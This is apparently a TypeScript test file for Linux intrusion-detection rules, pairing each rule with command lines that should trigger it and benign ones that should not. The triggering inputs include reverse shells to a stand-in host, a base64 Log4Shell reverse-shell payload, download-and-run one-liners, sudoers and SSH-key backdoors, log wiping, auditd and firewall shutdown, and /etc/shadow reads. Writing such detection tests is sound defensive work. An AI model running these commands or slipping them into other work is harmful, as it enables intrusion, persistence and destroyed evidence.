import { auditExec, lines, linuxFileCreated, linuxProcess, syslogLine } from '../inputs.ts';
import type { RuleCase } from './types.ts';

const JAVA = '/usr/lib/jvm/java-11-openjdk-amd64/bin/java';
// The Log4Shell payload of the OTRF dataset: `bash -i >& /dev/tcp/192.168.2.6/443 0>&1`, base64-encoded.
const LOG4SHELL =
  'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}';

/** Linux process starts (Sysmon for Linux, some through auditd) and auth.log account events. */
export const LINUX_CASES: RuleCase[] = [
  {
    rule: 'linux/reverse-shell.yml',
    fires: [
      linuxProcess('/usr/bin/bash', 'bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"'),
      auditExec('/usr/bin/bash', ['bash', '-c', LOG4SHELL]),
      linuxProcess(
        '/usr/bin/python3',
        `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
      ),
      linuxProcess('/usr/bin/nc', 'nc 203.0.113.5 4444 -e /bin/sh'),
    ],
    misses: [
      { why: 'bash -i not redirected to /dev/tcp', input: linuxProcess('/usr/bin/bash', 'bash -i') },
      { why: 'netcat checking a port, no shell', input: linuxProcess('/usr/bin/nc', 'nc -zv 10.0.0.5 22') },
    ],
  },
  {
    rule: 'linux/download-then-run.yml',
    fires: [
      linuxProcess('/usr/bin/bash', 'bash -c "curl -fsSL http://203.0.113.5/x.sh | bash"'),
      auditExec('/usr/bin/dash', [
        'sh',
        '-c',
        'cd /tmp && wget -q http://203.0.113.5/m && chmod +x m && ./m',
      ]),
    ],
    misses: [
      {
        why: 'a download saved, not run',
        input: linuxProcess(
          '/usr/bin/curl',
          'curl -fsSLo /usr/local/share/ca.pem https://pki.example.com/ca.pem',
        ),
      },
      {
        why: 'a download piped to a JSON filter, not a shell',
        input: linuxProcess('/usr/bin/bash', 'bash -c "curl -s https://api.example.com/v1/status | jq ."'),
      },
    ],
  },
  {
    rule: 'linux/suspicious-file-download.yml',
    fires: [
      linuxProcess('/usr/bin/wget', 'wget http://203.0.113.5/kworker -O /tmp/kworker'),
      auditExec('/usr/bin/curl', ['curl', '-o', 'payload', 'http://203.0.113.5:8080/payload']),
    ],
    misses: [
      {
        why: 'a download by host name into /opt',
        input: linuxProcess(
          '/usr/bin/wget',
          'wget https://releases.example.com/tool.tar.gz -O /opt/tool.tar.gz',
        ),
      },
    ],
  },
  {
    rule: 'linux/base64-command.yml',
    fires: [
      linuxProcess('/bin/bash', LOG4SHELL, { parentImage: JAVA, user: 'tomcat' }),
      linuxProcess('/usr/bin/python3', `python3 -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"`),
    ],
    misses: [
      { why: 'decoded into a file', input: linuxProcess('/usr/bin/base64', 'base64 -d cert.b64') },
      {
        why: 'decoded text paged, not run',
        input: linuxProcess('/usr/bin/bash', 'bash -c "echo aGVsbG8= | base64 -d | less"'),
      },
    ],
  },
  {
    rule: 'linux/history-cleared.yml',
    fires: [
      linuxProcess('/usr/bin/rm', 'rm -f /root/.bash_history'),
      linuxProcess('/usr/bin/bash', "bash -c 'history -c'"),
      auditExec('/usr/bin/ln', ['ln', '-sf', '/dev/null', '/home/bob/.bash_history']),
    ],
    misses: [
      { why: 'reading a history file', input: linuxProcess('/usr/bin/cat', 'cat /root/.bash_history') },
    ],
  },
  {
    rule: 'linux/log-tampering.yml',
    fires: [
      linuxProcess('/usr/bin/rm', 'rm -rf /var/log/auth.log /var/log/syslog'),
      linuxProcess('/usr/bin/bash', "bash -c 'cat /dev/null > /var/log/wtmp'"),
      linuxProcess('/usr/bin/journalctl', 'journalctl --vacuum-time=1s'),
    ],
    misses: [
      { why: 'reading a log', input: linuxProcess('/usr/bin/tail', 'tail -n 50 /var/log/auth.log') },
      {
        why: 'logrotate removing an old rotation',
        input: linuxProcess('/usr/bin/rm', 'rm /var/log/syslog.7.gz', { parentImage: '/usr/sbin/logrotate' }),
      },
    ],
  },
  {
    rule: 'linux/auditd-disabled.yml',
    fires: [
      linuxProcess('/usr/sbin/auditctl', 'auditctl -e 0'),
      auditExec('/usr/bin/systemctl', ['systemctl', 'stop', 'auditd']),
    ],
    misses: [
      { why: 'listing audit rules', input: linuxProcess('/usr/sbin/auditctl', 'auditctl -l') },
      { why: 'checking the service', input: linuxProcess('/usr/bin/systemctl', 'systemctl status auditd') },
    ],
  },
  {
    rule: 'linux/audit-config-disabled.yml',
    fires: [
      lines(
        'type=CONFIG_CHANGE msg=audit(1732788000.100:800): auid=1000 ses=3 subj=unconfined op=set audit_enabled=0 old=1 res=1',
      ),
    ],
    misses: [
      {
        why: 'auditing switched on',
        input: lines(
          'type=CONFIG_CHANGE msg=audit(1732788000.100:800): auid=1000 ses=3 subj=unconfined op=set audit_enabled=1 old=0 res=1',
        ),
      },
    ],
  },
  {
    rule: 'linux/firewall-disabled.yml',
    fires: [
      linuxProcess('/usr/sbin/ufw', 'ufw disable'),
      auditExec('/usr/sbin/iptables', ['iptables', '-F']),
    ],
    misses: [
      { why: 'listing rules', input: linuxProcess('/usr/sbin/iptables', 'iptables -L -n') },
      { why: 'enabling the firewall', input: linuxProcess('/usr/sbin/ufw', 'ufw enable') },
    ],
  },
  {
    rule: 'linux/account-created.yml',
    fires: [
      lines(
        syslogLine(
          0,
          'useradd[2001]',
          'new user: name=deploy, UID=1001, GID=1001, home=/home/deploy, shell=/bin/bash, from=/dev/pts/0',
        ),
      ),
    ],
    misses: [
      {
        why: 'useradd failed',
        input: lines(syslogLine(0, 'useradd[2001]', "failed adding user 'deploy', exit code: 9")),
      },
    ],
  },
  {
    rule: 'linux/suspicious-account-created.yml',
    fires: [
      lines(
        syslogLine(
          0,
          'useradd[2001]',
          'new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0',
        ),
      ),
    ],
    misses: [
      {
        why: 'an ordinary user id',
        input: lines(
          syslogLine(
            0,
            'useradd[2001]',
            'new user: name=sysadm, UID=1002, GID=1002, home=/home/sysadm, shell=/bin/bash',
          ),
        ),
      },
    ],
  },
  {
    rule: 'linux/sudo-group-addition.yml',
    fires: [
      lines(syslogLine(0, 'usermod[2002]', "add 'mallory' to group 'sudo'")),
      lines(
        syslogLine(0, 'useradd[2003]', "add 'mallory' to group 'sudo'"),
        syslogLine(0, 'useradd[2003]', "add 'mallory' to shadow group 'sudo'"),
      ),
      lines(syslogLine(0, 'gpasswd[2005]', 'user mallory added by root to group wheel')),
    ],
    misses: [
      {
        why: 'a group without sudo rights',
        input: lines(syslogLine(0, 'usermod[2002]', "add 'mallory' to group 'docker'")),
      },
      {
        why: 'the /etc/gshadow line of a change (its /etc/group line is the one counted)',
        input: lines(syslogLine(0, 'usermod[2002]', "add 'mallory' to shadow group 'sudo'")),
      },
    ],
  },
  {
    rule: 'linux/sudoers-modified.yml',
    fires: [
      linuxProcess('/usr/bin/bash', `bash -c "echo 'mallory ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"`),
      linuxProcess('/usr/bin/tee', 'tee -a /etc/sudoers.d/90-cloud-init-users'),
    ],
    misses: [
      {
        why: 'visudo checking the syntax',
        input: linuxProcess('/usr/sbin/visudo', 'visudo -c -f /etc/sudoers'),
      },
      { why: 'reading sudoers', input: linuxProcess('/usr/bin/cat', 'cat /etc/sudoers') },
    ],
  },
  {
    rule: 'linux/ssh-key-added.yml',
    fires: [
      linuxProcess(
        '/usr/bin/bash',
        'bash -c "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 mallory >> /root/.ssh/authorized_keys"',
      ),
      linuxProcess('/usr/bin/ssh-copy-id', 'ssh-copy-id -i key.pub root@10.0.0.7'),
    ],
    misses: [
      { why: 'listing the keys', input: linuxProcess('/usr/bin/cat', 'cat /root/.ssh/authorized_keys') },
    ],
  },
  {
    rule: 'linux/ssh-key-file-written.yml',
    fires: [linuxFileCreated('/usr/bin/bash', '/root/.ssh/authorized_keys')],
    misses: [
      { why: 'known_hosts written', input: linuxFileCreated('/usr/bin/ssh', '/root/.ssh/known_hosts') },
    ],
  },
  {
    rule: 'linux/cron-suspicious-command.yml',
    fires: [lines(syslogLine(0, 'CRON[2004]', '(root) CMD (curl -fsSL http://203.0.113.5/x.sh | sh)'))],
    misses: [
      {
        why: "a package's hourly jobs run by root",
        input: lines(
          syslogLine(0, 'CRON[2004]', '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)'),
        ),
      },
    ],
  },
  {
    rule: 'linux/crontab-modified.yml',
    fires: [lines(syslogLine(0, 'crontab[2003]', '(mallory) REPLACE (mallory)'))],
    misses: [
      {
        why: "cron reloading a package's file in /etc/cron.d",
        input: lines(syslogLine(0, 'cron[900]', '(*system*) RELOAD (/etc/cron.d/certbot)')),
      },
    ],
  },
  {
    rule: 'linux/crypto-miner.yml',
    fires: [
      linuxProcess(
        '/tmp/.x/xmrig',
        '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 -u 4Axyz --donate-level 1',
      ),
      auditExec('/usr/local/bin/kswapd', ['kswapd', '--algo=rx/0', '-o', 'pool.example.net:443']),
    ],
    misses: [
      {
        why: 'a data mining script',
        input: linuxProcess('/usr/bin/python3', 'python3 /opt/etl/data_mining.py --input /data'),
      },
    ],
  },
  {
    rule: 'linux/web-shell.yml',
    fires: [
      linuxProcess('/bin/sh', 'sh -c id', { parentImage: '/usr/sbin/apache2', user: 'www-data' }),
      linuxProcess('/bin/bash', LOG4SHELL, { parentImage: JAVA, user: 'tomcat' }),
    ],
    misses: [
      {
        why: 'a web server spawning a non-shell',
        input: linuxProcess('/usr/bin/convert', 'convert in.png out.jpg', {
          parentImage: '/usr/sbin/php-fpm8.1',
          user: 'www-data',
        }),
      },
      {
        why: 'java running as a build account, not an application server',
        input: linuxProcess('/bin/bash', 'bash build.sh', { parentImage: JAVA, user: 'jenkins' }),
      },
    ],
  },
  {
    rule: 'linux/suspicious-path-execution.yml',
    fires: [linuxProcess('/dev/shm/.k/kworker', '/dev/shm/.k/kworker'), auditExec('/tmp/x', ['/tmp/x'])],
    misses: [
      {
        why: 'a system interpreter running a script in /tmp',
        input: linuxProcess('/usr/bin/python3', 'python3 /tmp/setup.py'),
      },
    ],
  },
  {
    rule: 'linux/credential-access-tool.yml',
    fires: [linuxProcess('/usr/sbin/unshadow', 'unshadow /etc/passwd /etc/shadow')],
    misses: [{ why: 'a home directory named john', input: linuxProcess('/usr/bin/ls', 'ls /home/john') }],
  },
  {
    rule: 'linux/attack-tool.yml',
    fires: [linuxProcess('/usr/bin/masscan', 'masscan 10.0.0.0/8 -p22 --rate 10000')],
    misses: [{ why: 'a ping', input: linuxProcess('/usr/bin/ping', 'ping -c 1 10.0.0.5') }],
  },
  {
    rule: 'linux/shadow-file-access.yml',
    fires: [
      linuxProcess('/usr/bin/cat', 'cat /etc/shadow'),
      auditExec('/usr/bin/cp', ['cp', '/etc/shadow', '/tmp/s']),
    ],
    misses: [{ why: 'listing its permissions', input: linuxProcess('/usr/bin/ls', 'ls -l /etc/shadow') }],
  },
  {
    rule: 'linux/crypt-password-change.yml',
    fires: [
      linuxProcess('/usr/sbin/usermod', "usermod -p '$6$salt$Qy0.hash' root"),
      linuxProcess('/usr/sbin/chpasswd', 'chpasswd -e'),
    ],
    misses: [{ why: 'locking an account', input: linuxProcess('/usr/sbin/usermod', 'usermod -L mallory') }],
  },
  {
    rule: 'linux/kernel-module-load.yml',
    fires: [linuxProcess('/usr/sbin/insmod', 'insmod /tmp/diamorphine.ko')],
    misses: [
      {
        why: 'a module from the system tree',
        input: linuxProcess('/usr/sbin/modprobe', 'modprobe nf_conntrack'),
      },
    ],
  },
  {
    rule: 'linux/nohup-suspicious.yml',
    fires: [
      linuxProcess('/usr/bin/nohup', 'nohup /tmp/kdevtmpfsi'),
      linuxProcess('/usr/bin/nohup', 'nohup ./.cache-svc -B'),
    ],
    misses: [
      {
        why: 'an application kept running',
        input: linuxProcess('/usr/bin/nohup', 'nohup /usr/bin/python3 /opt/app/server.py'),
      },
    ],
  },
  {
    rule: 'linux/hidden-file-execution.yml',
    fires: [linuxProcess('/home/bob/.config/.svc/kthreadd', '/home/bob/.config/.svc/kthreadd')],
    misses: [
      { why: 'a tool under ~/.local/bin', input: linuxProcess('/home/bob/.local/bin/pipx', 'pipx list') },
    ],
  },
  {
    rule: 'linux/suspicious-compilation.yml',
    fires: [linuxProcess('/usr/bin/gcc', 'gcc /tmp/dirtypipe.c -o /tmp/dp')],
    misses: [
      {
        why: 'compiling in a project',
        input: linuxProcess('/usr/bin/gcc', 'gcc -O2 src/main.c -o build/app'),
      },
    ],
  },
  {
    rule: 'linux/port-forwarding.yml',
    fires: [
      linuxProcess('/usr/bin/socat', 'socat TCP-LISTEN:8080,fork TCP:203.0.113.5:443'),
      linuxProcess('/usr/bin/ssh', 'ssh -fNR 2222:localhost:22 tunnel@203.0.113.5'),
    ],
    misses: [
      {
        why: 'a local forward to reach a database',
        input: linuxProcess('/usr/bin/ssh', 'ssh -L 5432:db:5432 bastion'),
      },
    ],
  },
  {
    rule: 'linux/screenshot.yml',
    fires: [linuxProcess('/usr/bin/import', 'import -window root /tmp/s.png')],
    misses: [
      {
        why: 'one window captured on purpose',
        input: linuxProcess('/usr/bin/import', 'import -window 0x3a00007 /tmp/w.png'),
      },
    ],
  },
  {
    rule: 'linux/timestamp-tampering.yml',
    fires: [linuxProcess('/usr/bin/touch', 'touch -r /bin/ls /usr/bin/.backdoor')],
    misses: [{ why: 'touch creating a file', input: linuxProcess('/usr/bin/touch', 'touch /tmp/ready') }],
  },
  {
    rule: 'linux/apt-timer-stopped.yml',
    fires: [linuxProcess('/usr/bin/systemctl', 'systemctl disable --now apt-daily-upgrade.timer')],
    misses: [
      {
        why: 'checking the timer',
        input: linuxProcess('/usr/bin/systemctl', 'systemctl status apt-daily-upgrade.timer'),
      },
    ],
  },
  {
    rule: 'linux/security-tool-disabled.yml',
    fires: [
      linuxProcess('/usr/sbin/setenforce', 'setenforce 0'),
      auditExec('/usr/bin/systemctl', ['systemctl', 'stop', 'mdatp']),
    ],
    misses: [
      { why: 'SELinux set to enforcing', input: linuxProcess('/usr/sbin/setenforce', 'setenforce 1') },
      { why: 'the agent restarted', input: linuxProcess('/usr/bin/systemctl', 'systemctl restart mdatp') },
    ],
  },
  {
    rule: 'linux/persistence-startup-script.yml',
    fires: [
      linuxProcess('/usr/bin/bash', `bash -c "echo '/tmp/.x/run &' >> /etc/rc.local"`),
      linuxProcess('/usr/bin/cp', 'cp /tmp/x.service /etc/systemd/system/x.service'),
    ],
    misses: [
      {
        why: 'reading a unit file',
        input: linuxProcess('/usr/bin/cat', 'cat /etc/systemd/system/ssh.service'),
      },
      {
        why: 'enabling a service by name',
        input: linuxProcess('/usr/bin/systemctl', 'systemctl enable nginx'),
      },
    ],
  },
  {
    rule: 'linux/python-encoded-downloader.yml',
    fires: [
      linuxProcess(
        '/usr/bin/python3',
        `python3 -c "import base64,urllib.request;exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.5/p').read()))"`,
      ),
    ],
    misses: [
      {
        why: 'decoding without fetching anything',
        input: linuxProcess('/usr/bin/python3', `python3 -c "import base64;print(base64.b64decode('aGk='))"`),
      },
    ],
  },
];
